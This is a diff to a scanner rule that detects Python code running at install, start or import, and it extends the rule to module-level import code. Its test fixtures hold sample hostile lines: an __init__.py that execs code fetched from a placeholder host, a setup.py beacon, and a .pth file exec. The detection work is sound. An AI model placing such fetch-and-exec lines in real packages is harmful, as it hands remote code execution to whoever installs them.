@@ -10,7 +10,7 @@ const ACTS =
 
 export const check: FileCheck = {
   id: 'supply-chain-python-import-hook',
-  title: 'Hostile code runs as soon as Python builds, installs or starts',
+  title: 'Hostile code runs as soon as Python installs or imports it',
   severity: 'high',
   kind: 'malice',
   confidence: 'high',
@@ -18,9 +18,9 @@ export const check: FileCheck = {
   cwe: [506],
   why: `
     \`setup.py\` runs while the package is being installed, a \`.pth\` file and \`sitecustomize\` at every start of Python.
-    Nobody has to import or call anything: what stands there happens to everyone who installs.`,
+    What stands outside functions runs at the first import. Nobody has to call anything: it happens to everyone.`,
   fix: 'Do not install it. Where you are its author, let setup.py describe the package and do nothing else.',
-  blindSpots: 'Modules that setup.py imports from the package are judged by what they do, not by when they run.',
+  blindSpots: 'A function that another module calls at import is not recognised as running then.',
   wants: {
     roles: ['setup-script', 'python-path-hook'],
     acts: [
@@ -45,23 +45,26 @@ export const check: FileCheck = {
         'setup.py':
           'import urllib.request\n«urllib.request.urlopen("https://beacon.example.net/x")»\nsetup(name="x")\n',
       },
+      { 'pkg/__init__.py': 'import requests\n«exec(requests.get("https://cdn.example.net/p").text)»\n' },
       { 'x.pth': '«import os; exec(os.environ.get("X", ""))»\n' },
     ],
     good: [
       { 'setup.py': 'from setuptools import setup\nsetup(name="x", packages=["x"])\n' },
       { 'setup.py': 'subprocess.check_call(["cmake", "--build", "."])\nsetup(name="x")\n' },
       { 'x.pth': '../src\n' },
+      { 'pkg/load.py': 'def load(url):\n    exec(requests.get(url).text)\n' },
       { 'app.py': 'import urllib.request\nurllib.request.urlopen("https://api.example.net/x")\n' },
     ],
   },
 
   *find(file) {
-    if (file.role !== 'setup-script' && file.role !== 'python-path-hook') return;
+    const isHook = file.role === 'setup-script' || file.role === 'python-path-hook';
+    if (!isHook && file.language !== 'python') return;
     const seen = new Set<number>();
-    for (const { start, end, message, confidence } of file.acts) {
-      if (seen.has(start)) continue;
+    for (const { start, end, message, confidence, atLoad } of file.acts) {
+      if (seen.has(start) || !(isHook || atLoad === true)) continue;
       seen.add(start);
-      yield { at: file.span(start, end), message: `This runs at installation or start. ${message}`, confidence };
+      yield { at: file.span(start, end), message: `This runs at installation or import. ${message}`, confidence };
     }
     if (!file.path.toLowerCase().endsWith('.pth')) return;
     for (const { start, text } of file.lines) {
